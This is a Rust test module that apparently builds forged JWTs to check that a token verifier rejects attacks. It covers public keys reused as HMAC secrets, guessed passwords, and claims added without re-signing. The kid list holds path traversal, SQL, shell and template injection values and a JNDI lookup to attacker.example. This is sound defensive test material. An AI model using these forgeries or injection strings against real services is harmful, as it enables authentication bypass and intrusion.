//! Tokens whose key is a text that the attacker knows or chooses: a published key, a guessed
//! password, or what a path, a query or a command in the `kid` returns.
//!
//! `jwt_tool`'s exploits (`-X`), injections (`-I`) and scans (`-M`) are all in this list, by
//! our own implementation:
//!
//! | `jwt_tool` | cases |
//! | --- | --- |
//! | `-X a`, `alg` none in four spellings | `signature::unsigned` |
//! | `-X n`, an empty signature | `signature::unsigned`, `form::parts` |
//! | `-X b`, an empty password | [`passwords`] |
//! | `-X s`, `jku` and `x5u` of the attacker | `signature::foreign` |
//! | `-X k`, the public key as HMAC key | [`public_keys`] |
//! | `-X i`, an embedded `jwk` | `signature::foreign` |
//! | `-X p`, the empty ECDSA signature | `signature::broken` |
//! | `-I -hc kid`, paths, queries, commands | [`kids`] |
//! | `-I -pc`, changed claims | `signature::moved` |
//! | `-C`, a dictionary of passwords | [`passwords`] |
//! | `-M pb`, the playbook | all of these |
//! | `-M er`, each claim and member of another type | `claims::presence_and_types`, `header::add` |
//! | `-M cc`, each common claim added | [`common_claims`], as no signature covers them |
//! | `-M at`, all of it | the whole list |

use aws_lc_rs::digest::{SHA256, digest};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use gatehouse_auth::key::Algorithm;
use serde_json::{Value, json};

use super::{Base, Cases, set};
use crate::forger::{base64url, sign_with_hmac};

pub(super) fn add(cases: &mut Cases, base: &Base<'_>) {
    public_keys(cases, base);
    passwords(cases, base);
    kids(cases, base);
    common_claims(cases, base);
}

/// Every encoding of a public key that a verifier has used as an HMAC key by mistake.
fn public_keys(cases: &mut Cases, base: &Base<'_>) {
    let jwk = base.forger.public();
    let number = |name: &str| {
        let text = jwk.get(name).and_then(Value::as_str).unwrap_or_default();
        URL_SAFE_NO_PAD.decode(text).unwrap()
    };
    let raw = [number("n"), number("x"), number("y")].concat();
    let point = [&[4][..], &raw].concat();
    let der = subject_public_key_info(base.forger.algorithm(), &raw, &point);
    let base64 = STANDARD.encode(&der);
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{base64}\n-----END PUBLIC KEY-----");
    let kid = base.forger.kid();
    for (name, secret) in [
        ("PEM", format!("{pem}\n").into_bytes()),
        ("PEM without its last line break", pem.clone().into_bytes()),
        ("PEM with CRLF", pem.replace('\n', "\r\n").into_bytes()),
        ("PEM in one line", pem.replace('\n', "").into_bytes()),
        ("DER in base64", base64.into_bytes()),
        ("DER", der.clone()),
        ("JWK", jwk.to_string().into_bytes()),
        ("JWK Set", json!({"keys": [jwk]}).to_string().into_bytes()),
        ("number in base64", STANDARD.encode(&raw).into_bytes()),
        ("number in base64url", base64url(&raw).into_bytes()),
        ("number", raw),
        ("point", point),
        ("thumbprint", URL_SAFE_NO_PAD.decode(kid).unwrap()),
        ("kid", kid.as_bytes().to_vec()),
        ("digest of DER", digest(&SHA256, &der).as_ref().to_vec()),
    ] {
        for alg in ["HS256", base.forger.algorithm().name()] {
            let token = with_secret(base, alg, kid, &secret);
            cases.add(format!("{alg} with the public key as {name}"), token);
        }
    }
}

fn passwords(cases: &mut Cases, base: &Base<'_>) {
    let kid = base.forger.kid();
    for secret in [
        "",
        "secret",
        "password",
        "changeme",
        "key",
        "gatehouse",
        "...",
        "0",
    ] {
        for alg in ["HS256", "HS384", "HS512"] {
            let token = with_secret(base, alg, kid, secret.as_bytes());
            cases.add(format!("{alg} with the password {secret:?}"), token);
        }
    }
}

/// A `kid` that a verifier opens, looks up or runs, and what comes of that as the key.
fn kids(cases: &mut Cases, base: &Base<'_>) {
    for (kid, secret) in [
        ("", ""),
        ("/dev/null", ""),
        ("../../../../../../dev/null", ""),
        ("..\\..\\..\\..\\NUL", ""),
        ("file:///dev/null", ""),
        ("/invalid_path", ""),
        (
            "../../../../../../proc/sys/kernel/randomize_va_space",
            "2\n",
        ),
        ("/proc/sys/kernel/randomize_va_space\0.pem", "2\n"),
        ("/etc/hostname", "localhost\n"),
        ("x' UNION SELECT '1';--", "1"),
        ("x\" UNION SELECT \"1\";--", "1"),
        ("0 UNION SELECT 1--", "1"),
        ("' OR '1'='1", "1"),
        ("|sleep 10", ""),
        ("; sleep 10", ""),
        ("`sleep 10`", ""),
        ("$(sleep 10)", ""),
        ("{{7*7}}", "49"),
        ("${jndi:ldap://attacker.example/a}", ""),
        ("jwks", ""),
        ("__proto__", ""),
        ("constructor", ""),
        ("0", ""),
    ] {
        for alg in ["HS256", base.forger.algorithm().name()] {
            let token = with_secret(base, alg, kid, secret.as_bytes());
            cases.add(format!("{alg} with the kid {kid:?}"), token);
        }
        cases.add(format!("kid {kid:?}"), base.with_member("kid", kid));
    }
}

/// Claims that others read as rights, added to a token without a new signature.
fn common_claims(cases: &mut Cases, base: &Base<'_>) {
    let valid = base.valid();
    let (signed, signature) = valid.rsplit_once('.').unwrap();
    let (header, _) = signed.split_once('.').unwrap();
    for name in [
        "role",
        "groups",
        "is_admin",
        "isAdmin",
        "permissions",
        "entitlements",
        "scp",
        "user",
        "username",
        "email",
        "email_verified",
        "tenant",
        "acr",
        "amr",
        "azp",
        "act",
        "may_act",
        "cnf",
        "sub_jwk",
        "events",
        "nonce",
        "nbf",
    ] {
        let mut claims = base.claims.clone();
        set(&mut claims, name, "admin");
        let claims = base64url(claims.to_string());
        let token = format!("{header}.{claims}.{signature}");
        cases.add(format!("{name} added after the signature"), token);
    }
}

fn with_secret(base: &Base<'_>, alg: &str, kid: &str, secret: &[u8]) -> String {
    let header = json!({"alg": alg, "kid": kid, "typ": "at+jwt"});
    sign_with_hmac(header.to_string(), base.claims.to_string(), secret)
}

/// RFC 5280 section 4.1; for RSA the modulus represents the whole key.
fn subject_public_key_info(algorithm: Algorithm, raw: &[u8], point: &[u8]) -> Vec<u8> {
    let (prefix, key) = match algorithm {
        Algorithm::Es256 => (
            "MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE",
            point.get(1..).unwrap(),
        ),
        Algorithm::EdDsa => ("MCowBQYDK2VwAyEA", raw),
        Algorithm::Rs256 => ("MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA", raw),
    };
    let mut der = STANDARD.decode(prefix).unwrap();
    der.extend_from_slice(key);
    if algorithm == Algorithm::Rs256 {
        der.extend_from_slice(&[2, 3, 1, 0, 1]);
    }
    der
}
